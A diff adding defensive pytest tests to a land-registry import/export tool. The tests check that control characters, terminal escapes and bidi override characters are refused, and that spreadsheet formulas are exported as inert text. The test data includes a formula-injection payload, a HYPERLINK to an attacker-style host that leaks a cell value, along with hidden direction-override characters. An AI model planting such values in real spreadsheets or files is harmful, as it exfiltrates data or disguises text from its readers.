@@ -166,6 +166,8 @@ def test_every_kind_of_bad_row_is_refused_by_file_row_and_column(imported: Impor
         ("DYAQ", "BDBZZQSE", "-5", 0, "BDBZZQSE"),
         ("YYDJ", "DJSJ", "yesterday", 0, "DJSJ"),
         ("QLRGX", "QLRBSM", "nobody", 0, "QLRBSM"),                                 # reference
+        ("QLR", "QLRMC", "王\x07伟", 0, "QLRMC"),                                  # control character
+        ("CFDJ", "CFJG", "法院\x1b[2J", 0, "CFJG"),
     ]
     before = _register_state(imported.url)
     for table, column, value, index, reported in cases:
@@ -335,3 +337,83 @@ def test_the_command_line_imports_in_a_registrars_name(imported: Imported, tmp_p
         rows = conn.execute("SELECT outcome, actor_user_id IS NOT NULL, detail::jsonb -> 'dry_run' FROM audit_log "
                             "WHERE action = 'register_import' ORDER BY seq DESC LIMIT 2").fetchall()
     assert rows == [("refused", True, False), ("success", True, True)]
+
+
+def test_text_direction_characters_are_refused_in_every_format(imported: Imported, tmp_path: Path) -> None:
+    """F3: a bidi override or isolate in a name is refused by file, row and column, from XLSX too."""
+    t = generate_register(_parcels(imported.url), units=300, seed=3)
+    before = _register_state(imported.url)
+    for table, column, value in (("QLR", "QLRMC", "\u202e伟王"), ("BDCDY", "ZL", "东城区\u2066某路"),
+                                 ("QL", "DBR", "李\u202a四")):
+        tables, _ = _broken(t, table, column, value)
+        write_tables(tables, tmp_path / f"{table}.xlsx")
+        outcome = _import(imported.url, tmp_path / f"{table}.xlsx")
+        assert outcome.problems and not outcome.committed
+        problem = outcome.problems[0]
+        assert (problem.file, problem.column) == (f"{table}.xlsx[{table}]", column), str(problem)
+        assert problem.row == 2 and "U+20" in problem.message
+    assert _register_state(imported.url) == before
+
+
+FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")", "+1+1", "-2+3", "@SUM(A1:A9)", "'=quoted",
+            "'plain quote", "=1\t", "王伟"]
+
+
+def test_formulas_are_written_as_text_and_import_back_unchanged(imported: Imported, tmp_path: Path) -> None:
+    """F2: no cell of an export is a formula in a spreadsheet (XLSX string cells, CSV quote prefix),
+    and the importer reads back exactly what was exported."""
+    from openpyxl import load_workbook
+
+    from portal.registry.exchange.reading import read_exchange
+
+    t = generate_register(_parcels(imported.url), units=300, seed=3)
+    for index, name in enumerate(FORMULAS):
+        t["QLR"][index]["QLRMC"] = name
+    write_tables(t, tmp_path / "csv")
+    write_tables(t, tmp_path / "book.xlsx")
+    raw = (tmp_path / "csv" / "QLR.csv").read_text(encoding="utf-8")
+    assert "'=HYPERLINK" in raw and ",'+1+1," in raw and ",'-2+3," in raw and ",'@SUM(A1:A9)," in raw
+    assert ",''=quoted," in raw and ",''plain quote," in raw and ",王伟," in raw and ",'=1\t," in raw
+    sheet = load_workbook(tmp_path / "book.xlsx")["QLR"]
+    names = [row[1] for row in sheet.iter_rows(min_row=2, max_row=len(FORMULAS) + 1)]
+    assert all(cell.data_type == "s" for cell in names)
+    assert [cell.quotePrefix for cell in names[:5]] == [True] * 5
+    for path, file in ((tmp_path / "csv", "QLR.csv"), (tmp_path / "book.xlsx", "book.xlsx[QLR]")):
+        rows = read_exchange(path).rows("QLR")
+        assert [r.get("QLRMC") for r in rows[:len(FORMULAS)]] == [n.strip() for n in FORMULAS], file
+        # And the register takes them as names (a dry run: they would change 8 parties, nothing else).
+        outcome = _import(imported.url, path, dry_run=True)
+        assert not outcome.problems and outcome.counts["QLR"]["changed"] == len(FORMULAS), file
+    # A hand-made CSV's own single quote stays (only the exporter's escape is taken off).
+    from portal.registry.exchange.reading import csv_value
+    assert csv_value("'O'Brien") == "'O'Brien" and csv_value("''x") == "'x" and csv_value("'=1") == "=1"
+
+
+def test_an_export_that_cannot_be_written_says_why_and_unmasked_files_are_private(
+        writable_database: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """F3 (export side) and F4: a control character already in the register stops an XLSX export
+    with a clear message, audited, no file and no traceback; files are the owner's only."""
+    monkeypatch.setenv("DATABASE_URL", writable_database)
+    runner = CliRunner()
+    out = tmp_path / "full"
+    done = runner.invoke(main, ["register", "export", str(out), "--as", "registrar", "--unmasked"])
+    assert done.exit_code == 0, done.output
+    assert out.stat().st_mode & 0o777 == 0o700
+    assert {p.stat().st_mode & 0o777 for p in out.iterdir()} == {0o600}
+    book = tmp_path / "full.xlsx"
+    assert runner.invoke(main, ["register", "export", str(book), "--as", "registrar"]).exit_code == 0
+    assert book.stat().st_mode & 0o777 == 0o600
+    with psycopg.connect(writable_database) as conn:
+        conn.execute("ALTER TABLE parties DISABLE TRIGGER USER")  # as a row written before the import checked
+        conn.execute("UPDATE parties SET name = name || E'\\x07' WHERE party_id = (SELECT min(party_id) "
+                     "FROM parties WHERE end_lifespan IS NULL)")
+        conn.execute("ALTER TABLE parties ENABLE TRIGGER USER")
+        conn.commit()
+    broken = runner.invoke(main, ["register", "export", str(tmp_path / "broken.xlsx"), "--as", "registrar"])
+    assert broken.exit_code == 1 and isinstance(broken.exception, SystemExit), broken.output
+    assert "QLR" in broken.output and "QLRMC" in broken.output and "control character" in broken.output
+    assert "Traceback" not in broken.output and not (tmp_path / "broken.xlsx").exists()
+    with psycopg.connect(writable_database) as conn:
+        row = conn.execute("SELECT outcome FROM audit_log WHERE action = 'register_export' "
+                           "ORDER BY seq DESC LIMIT 1").fetchone()
+    assert row == ("failure",)
